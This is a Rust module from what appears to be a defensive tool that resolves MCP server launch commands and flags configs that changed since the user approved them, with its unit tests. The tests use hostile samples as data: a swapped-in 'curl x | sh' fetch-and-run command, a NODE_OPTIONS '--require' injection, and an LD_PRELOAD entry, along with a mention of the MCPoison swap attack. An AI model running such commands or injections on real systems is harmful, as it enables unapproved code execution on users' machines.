//! What a host's MCP config would run, resolved the way the host runs it, and how
//! it stands against the consent records: approved, not approved, or changed since
//! approval (with what changed).
//!
//! Shared by `mcpwatch scan` (which reads the user's configs as the user) and the
//! daemon (which re-reads a config itself before it records an approval from it,
//! and compares configs as they change). The resolution is the one a consent
//! record is made of: the kernel's argv after PATH lookup and `#!` (see
//! [`resolve::kernel_command`]), the resolved executable (and script), the working
//! directory when the config sets one, and the security-relevant environment.

use std::{collections::BTreeMap, path::Path};

use serde::Serialize;
use serde_json::Value;

use crate::{
    event::{shell_join, Bytes},
    hosts::import::{Entry, Imported},
    policy::record::{Record, Source},
    resolve,
};

/// The exact command the kernel will see when the host launches an entry.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Resolved {
    /// argv after exec: for a `#!` script `[interpreter, (arg), script, args...]`.
    pub argv: Vec<Bytes>,
    /// The executable the kernel maps (the interpreter for a script), resolved.
    pub exe: String,
    /// The script the interpreter reads (a `#!` file or a script argument), resolved.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub script: Option<String>,
    /// Which argument of `argv` names the script.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub script_arg: Option<usize>,
    /// The working directory the config sets (else wherever the host runs it).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cwd: Option<String>,
    /// Every security-relevant variable: the config's value, or `None` (unset).
    pub env: BTreeMap<String, Option<Bytes>>,
}

/// Why a config entry's command cannot be known here.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ResolveError {
    #[error("not a local server")]
    NotLocal,
    #[error(
        "{name} is set by the host to a value only it knows ({why}); \
         approve the launch from its event instead"
    )]
    HostOnlyEnv { name: String, why: String },
    #[error("empty command")]
    Empty,
    #[error("`{first}` is relative and the config gives no directory to resolve it in")]
    RelativeWithoutDir { first: String },
    /// The executable or script cannot be found or read
    /// (`consent::kernel_command`'s reason).
    #[error("{0}")]
    Command(String),
}

/// Resolve a local entry as its host will launch it. `path_var` is the PATH the
/// host has (the user's); a `PATH` the entry sets wins, as it does for the host's
/// `spawn`. Errors say why the command cannot be known.
pub fn resolve(imp: &Imported, path_var: &[u8]) -> Result<Resolved, ResolveError> {
    let Entry::Local {
        argv,
        env,
        env_unknown,
        cwd,
        ..
    } = &imp.entry
    else {
        return Err(ResolveError::NotLocal);
    };
    for name in crate::event::pinned_names(env_unknown.keys()) {
        if let Some(why) = env_unknown.get(&name) {
            return Err(ResolveError::HostOnlyEnv {
                name,
                why: why.clone(),
            });
        }
    }
    let path_var = match env.get("PATH") {
        Some(Some(p)) => p.as_bytes(),
        _ => path_var,
    };
    let host_argv = Bytes::from_strs(argv);
    let first = argv.first().ok_or(ResolveError::Empty)?;
    // `./server` is found relative to the directory the host starts it in.
    let relative = first.contains('/') && !first.starts_with('/');
    let (kargv, exe, script) = if relative {
        let Some(dir) = cwd.as_ref().or(imp.project.as_ref()) else {
            return Err(ResolveError::RelativeWithoutDir {
                first: first.clone(),
            });
        };
        let mut abs = host_argv.clone();
        abs[0] = Bytes::from(dir.join(first).to_string_lossy().as_ref());
        let (mut k, exe, script) = resolve::kernel_command(&abs, path_var, Some(dir))
            .map_err(|e| ResolveError::Command(e.to_string()))?;
        // The kernel sees the name the host passed: argv[0] of a binary, the
        // script argument of an interpreter.
        if let Some(pos) = k.iter().position(|a| *a == abs[0]) {
            k[pos] = host_argv[0].clone();
        }
        (k, exe, script)
    } else {
        resolve::kernel_command(
            &host_argv,
            path_var,
            cwd.as_deref().or(imp.project.as_deref()),
        )
        .map_err(|e| ResolveError::Command(e.to_string()))?
    };
    Ok(Resolved {
        argv: kargv,
        exe: exe.display().to_string(),
        script_arg: script.as_ref().map(|s| s.arg),
        script: script.map(|s| s.path.display().to_string()),
        cwd: cwd.as_ref().map(|c| c.display().to_string()),
        env: crate::event::pinned_names(env.keys())
            .into_iter()
            .map(|n| {
                let v = env
                    .get(&n)
                    .cloned()
                    .flatten()
                    .map(|v| Bytes::from(v.as_str()));
                (n, v)
            })
            .collect(),
    })
}

pub use crate::reply::RecordView;

/// The records of a `Records` answer (`{"records": [...]}`), each with its state.
/// Records that do not parse are skipped (a newer daemon's fields).
pub fn record_views(v: &Value) -> Vec<RecordView> {
    v["records"]
        .as_array()
        .map(|rs| {
            rs.iter()
                .filter_map(|r| serde_json::from_value(r.clone()).ok())
                .collect()
        })
        .unwrap_or_default()
}

/// Where an entry stands.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "status")]
pub enum Status {
    /// An active record approves exactly this command.
    Approved {
        record: u64,
    },
    /// Approved once (a record imported from this entry, or one for this exact
    /// command whose files changed), but what runs now differs: not approved.
    ChangedSinceApproval {
        record: u64,
        diff: Vec<String>,
    },
    NotApproved,
}

impl Status {
    pub fn label(&self) -> &'static str {
        match self {
            Self::Approved { .. } => "approved",
            Self::ChangedSinceApproval { .. } => "changed since approval",
            Self::NotApproved => "not approved",
        }
    }
}

/// Whether `r` approves `cmd` for `host` and `uid`.
fn approves(r: &Record, host: &str, uid: u32, cmd: &Resolved) -> bool {
    (r.host == host || r.host == crate::policy::record::ANY_HOST)
        && (r.uid == uid || r.uid == crate::policy::record::ANY_UID)
        && r.argv == cmd.argv
        && r.exe.path == cmd.exe
        && r.script.as_ref().map(|s| &s.path) == cmd.script.as_ref()
        && r.cwd
            .as_ref()
            .is_none_or(|c| cmd.cwd.as_deref() == Some(c.lossy().as_ref()))
        && crate::event::pinned_names(r.env.keys().chain(cmd.env.keys()))
            .iter()
            .all(|n| r.env.get(n).cloned().flatten() == cmd.env.get(n).cloned().flatten())
}

/// The status of `cmd` (the entry `source`, `FILE#SERVER`, of `host`) for `uid`.
pub fn status(
    host: &str,
    file: &Path,
    server: &str,
    uid: u32,
    cmd: &Resolved,
    records: &[RecordView],
) -> Status {
    let live = |v: &&RecordView| v.state != "expired";
    if let Some(v) = records
        .iter()
        .filter(live)
        .find(|v| approves(&v.record, host, uid, cmd))
    {
        if v.state == "stale" {
            return Status::ChangedSinceApproval {
                record: v.record.id,
                diff: vec![format!(
                    "content: {}",
                    v.state_reason
                        .clone()
                        .unwrap_or_else(|| "a file changed since approval".into())
                )],
            };
        }
        return Status::Approved {
            record: v.record.id,
        };
    }
    let file_text = file.display().to_string();
    let imported_here = |v: &&RecordView| {
        matches!(&v.record.source, Source::Import { file: f, server: s } if *f == file_text && s == server)
            && (v.record.host == host || v.record.host == crate::policy::record::ANY_HOST)
    };
    // The newest record imported from this very entry: what was approved.
    if let Some(v) = records
        .iter()
        .filter(live)
        .filter(imported_here)
        .max_by_key(|v| v.record.id)
    {
        return Status::ChangedSinceApproval {
            record: v.record.id,
            diff: diff(&v.record, cmd),
        };
    }
    Status::NotApproved
}

/// What differs between an approved record and a command, one line per change,
/// `OLD → NEW`.
pub fn diff(r: &Record, cmd: &Resolved) -> Vec<String> {
    let mut out = Vec::new();
    if r.exe.path != cmd.exe {
        out.push(format!("executable: {} → {}", r.exe.path, cmd.exe));
    }
    let old_script = r.script.as_ref().map(|s| s.path.clone());
    if old_script != cmd.script {
        out.push(format!(
            "script: {} → {}",
            old_script.as_deref().unwrap_or("(none)"),
            cmd.script.as_deref().unwrap_or("(none)")
        ));
    }
    out.extend(argv_diff(&r.argv, &cmd.argv));
    let old_cwd = r.cwd.as_ref().map(|c| c.lossy().into_owned());
    if old_cwd.is_some() && old_cwd != cmd.cwd {
        out.push(format!(
            "cwd: {} → {}",
            old_cwd.as_deref().unwrap_or("(any)"),
            cmd.cwd.as_deref().unwrap_or("(any)")
        ));
    }
    for n in crate::event::pinned_names(r.env.keys().chain(cmd.env.keys())) {
        let old = r.env.get(&n).cloned().flatten();
        let new = cmd.env.get(&n).cloned().flatten();
        if old != new {
            let show = |v: &Option<Bytes>| {
                v.as_ref()
                    .map_or("(unset)".into(), |b| b.lossy().into_owned())
            };
            out.push(format!("env {n}: {} → {}", show(&old), show(&new)));
        }
    }
    out
}

/// argv changes: per index when the length is the same, else both whole.
pub fn argv_diff(old: &[Bytes], new: &[Bytes]) -> Vec<String> {
    if old == new {
        return Vec::new();
    }
    if old.len() == new.len() {
        old.iter()
            .zip(new)
            .enumerate()
            .filter(|(_, (a, b))| a != b)
            .map(|(i, (a, b))| format!("argv[{i}]: {} → {}", quote(a), quote(b)))
            .collect()
    } else {
        vec![
            format!("- argv: {}", shell_join(old)),
            format!("+ argv: {}", shell_join(new)),
        ]
    }
}

fn quote(b: &Bytes) -> String {
    shell_join(std::slice::from_ref(b))
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;
    use crate::event::SECURITY_ENV;
    use crate::{
        hosts::Schema,
        policy::record::{FileBinding, Scope},
    };

    fn local(argv: &[&str], cwd: Option<&str>) -> Imported {
        Imported {
            host: "cursor".into(),
            schema: Schema::Cursor,
            file: PathBuf::from("/home/u/.cursor/mcp.json"),
            project: None,
            server: "fs".into(),
            enabled: true,
            disabled_reason: None,
            entry: Entry::Local {
                argv: argv.iter().map(|s| (*s).to_owned()).collect(),
                env: BTreeMap::new(),
                env_unknown: BTreeMap::new(),
                env_file: None,
                cwd: cwd.map(PathBuf::from),
            },
            notes: vec![],
        }
    }

    fn cmd(argv: &[&str]) -> Resolved {
        Resolved {
            argv: argv.iter().map(|a| Bytes::from(*a)).collect(),
            exe: "/usr/bin/touch".into(),
            script: None,
            script_arg: None,
            cwd: None,
            env: SECURITY_ENV
                .iter()
                .map(|n| ((*n).to_owned(), None))
                .collect(),
        }
    }

    fn record(id: u64, argv: &[&str], source: Source) -> RecordView {
        RecordView {
            record: Record {
                id,
                host: "cursor".into(),
                exe: FileBinding {
                    path: "/usr/bin/touch".into(),
                    sha256: "0".repeat(64),
                    arg: None,
                },
                script: None,
                resolved: None,
                argv: argv.iter().map(|a| Bytes::from(*a)).collect(),
                cwd: None,
                env: SECURITY_ENV
                    .iter()
                    .map(|n| ((*n).to_owned(), None))
                    .collect(),
                scope: Scope::Always,
                source,
                created: "2026-11-27T00:00:00Z".into(),
                note: String::new(),
                uid: 1000,
            },
            state: "active".into(),
            state_reason: None,
        }
    }

    fn import_source() -> Source {
        Source::Import {
            file: "/home/u/.cursor/mcp.json".into(),
            server: "fs".into(),
        }
    }

    const FILE: &str = "/home/u/.cursor/mcp.json";

    #[test]
    fn resolves_path_lookup_and_shebang_like_the_kernel() {
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join("srv");
        std::fs::write(&script, "#!/bin/sh -e\necho hi\n").unwrap();
        std::os::unix::fs::PermissionsExt::set_mode(
            &mut std::fs::metadata(&script).unwrap().permissions(),
            0o755,
        );
        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let path = dir.path().to_str().unwrap().as_bytes().to_vec();
        let r = resolve(&local(&["srv", "--x"], None), &path).unwrap();
        let want: Vec<Bytes> = ["/bin/sh", "-e", script.to_str().unwrap(), "--x"]
            .iter()
            .map(|s| Bytes::from(*s))
            .collect();
        assert_eq!(r.argv, want);
        assert_eq!(
            r.exe,
            std::fs::canonicalize("/bin/sh")
                .unwrap()
                .display()
                .to_string()
        );
        assert_eq!(r.script.as_deref(), script.to_str());
        // An ELF keeps argv as the host passes it.
        let r = resolve(&local(&["touch", "a"], Some("/tmp")), b"/usr/bin:/bin").unwrap();
        assert_eq!(r.argv, vec![Bytes::from("touch"), Bytes::from("a")]);
        assert_eq!(r.cwd.as_deref(), Some("/tmp"));
        // Not found: the reason.
        let e = resolve(&local(&["no-such-cmd-mcpw"], None), b"/usr/bin")
            .unwrap_err()
            .to_string();
        assert!(e.contains("not found"), "{e}");
    }

    #[test]
    fn entry_path_wins_and_relative_commands_need_a_directory() {
        let mut imp = local(&["touch"], None);
        if let Entry::Local { env, .. } = &mut imp.entry {
            env.insert("PATH".into(), Some("/usr/bin".into()));
            env.insert("NODE_OPTIONS".into(), Some("--inspect".into()));
        }
        let r = resolve(&imp, b"/nonexistent").unwrap();
        assert!(r.exe.ends_with("touch"));
        assert_eq!(r.env["NODE_OPTIONS"], Some(Bytes::from("--inspect")));
        assert_eq!(r.env["LD_PRELOAD"], None);
        let e = resolve(&local(&["./srv"], None), b"/usr/bin").unwrap_err();
        assert!(
            matches!(&e, ResolveError::RelativeWithoutDir { first } if first == "./srv"),
            "{e}"
        );
        assert!(e.to_string().contains("relative"), "{e}");
        let mut unknown = local(&["touch"], None);
        if let Entry::Local { env_unknown, .. } = &mut unknown.entry {
            env_unknown.insert("LD_PRELOAD".into(), "an ${input:} prompt".into());
        }
        assert!(resolve(&unknown, b"/usr/bin")
            .unwrap_err()
            .to_string()
            .contains("LD_PRELOAD"));
    }

    #[test]
    fn a_relative_command_is_found_in_its_directory_and_kept_as_the_host_passes_it() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::copy("/usr/bin/touch", dir.path().join("bin-srv")).unwrap();
        let script = dir.path().join("script-srv");
        std::fs::write(&script, "#!/bin/sh\necho hi\n").unwrap();
        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let cwd = dir.path().to_str().unwrap();
        let r = resolve(&local(&["./bin-srv", "a"], Some(cwd)), b"/usr/bin").unwrap();
        assert_eq!(r.argv, [Bytes::from("./bin-srv"), Bytes::from("a")]);
        assert_eq!(
            r.exe,
            std::fs::canonicalize(dir.path().join("bin-srv"))
                .unwrap()
                .display()
                .to_string()
        );
        let r = resolve(&local(&["./script-srv", "a"], Some(cwd)), b"/usr/bin").unwrap();
        assert_eq!(
            r.argv,
            [
                Bytes::from("/bin/sh"),
                Bytes::from("./script-srv"),
                Bytes::from("a")
            ]
        );
        assert_eq!(
            r.script.as_deref(),
            std::fs::canonicalize(&script).unwrap().to_str()
        );
    }

    #[test]
    fn approved_changed_and_not_approved() {
        let c = cmd(&["touch", "/a"]);
        let f = Path::new(FILE);
        assert_eq!(
            status("cursor", f, "fs", 1000, &c, &[]),
            Status::NotApproved
        );

        // Approved by any record for the exact command, whatever its source.
        let by_user = record(3, &["touch", "/a"], Source::User(1000));
        assert_eq!(
            status("cursor", f, "fs", 1000, &c, std::slice::from_ref(&by_user)),
            Status::Approved { record: 3 }
        );
        // Not for another host or another user.
        assert_eq!(
            status("zed", f, "fs", 1000, &c, std::slice::from_ref(&by_user)),
            Status::NotApproved
        );
        assert_eq!(
            status("cursor", f, "fs", 1001, &c, &[by_user]),
            Status::NotApproved
        );

        // MCPoison: imported from this entry, then the entry's argv changed.
        let imported = record(4, &["touch", "/a"], import_source());
        let swapped = cmd(&["touch", "/b"]);
        assert_eq!(
            status(
                "cursor",
                f,
                "fs",
                1000,
                &swapped,
                std::slice::from_ref(&imported)
            ),
            Status::ChangedSinceApproval {
                record: 4,
                diff: vec!["argv[1]: /a → /b".into()]
            }
        );
        // Another server of the file is not "changed": it was never approved.
        assert_eq!(
            status(
                "cursor",
                f,
                "other",
                1000,
                &swapped,
                std::slice::from_ref(&imported)
            ),
            Status::NotApproved
        );
        // The same command with a stale binding: changed (content).
        let mut stale = imported;
        stale.state = "stale".into();
        stale.state_reason = Some("sha256 of /usr/bin/touch changed".into());
        let Status::ChangedSinceApproval { diff, .. } =
            status("cursor", f, "fs", 1000, &c, &[stale])
        else {
            panic!("stale is a change")
        };
        assert!(diff[0].contains("sha256"), "{diff:?}");
    }

    #[test]
    fn env_and_cwd_are_part_of_the_match() {
        let f = Path::new(FILE);
        let mut c = cmd(&["touch", "/a"]);
        c.env.insert(
            "NODE_OPTIONS".into(),
            Some(Bytes::from("--require /tmp/x.js")),
        );
        let r = record(5, &["touch", "/a"], import_source());
        let Status::ChangedSinceApproval { diff, .. } =
            status("cursor", f, "fs", 1000, &c, std::slice::from_ref(&r))
        else {
            panic!("an added NODE_OPTIONS is a change")
        };
        assert_eq!(diff, ["env NODE_OPTIONS: (unset) → --require /tmp/x.js"]);
        // A record bound to a cwd does not approve another one.
        let mut bound = r;
        bound.record.cwd = Some(Bytes::from("/srv"));
        let mut c = cmd(&["touch", "/a"]);
        c.cwd = Some("/tmp".into());
        let Status::ChangedSinceApproval { diff, .. } =
            status("cursor", f, "fs", 1000, &c, &[bound])
        else {
            panic!("cwd")
        };
        assert_eq!(diff, ["cwd: /srv → /tmp"]);
    }

    #[test]
    fn argv_diffs_are_per_index_or_whole() {
        let b = |v: &[&str]| v.iter().map(|s| Bytes::from(*s)).collect::<Vec<_>>();
        assert!(argv_diff(&b(&["a"]), &b(&["a"])).is_empty());
        assert_eq!(
            argv_diff(&b(&["npx", "-y", "pkg"]), &b(&["npx", "-y", "evil pkg"])),
            ["argv[2]: pkg → 'evil pkg'"]
        );
        assert_eq!(
            argv_diff(&b(&["a"]), &b(&["sh", "-c", "curl x | sh"])),
            ["- argv: a", "+ argv: sh -c 'curl x | sh'"]
        );
    }

    #[test]
    fn record_views_parse_the_records_answer() {
        let r = record(9, &["touch"], import_source());
        let mut v = serde_json::to_value(&r.record).unwrap();
        v["state"] = "stale".into();
        v["state_reason"] = "why".into();
        let views = record_views(&serde_json::json!({"records": [v, {"bogus": 1}]}));
        assert_eq!(views.len(), 1);
        assert_eq!(views[0].record, r.record);
        assert_eq!(views[0].state, "stale");
        assert_eq!(views[0].state_reason.as_deref(), Some("why"));
    }
}
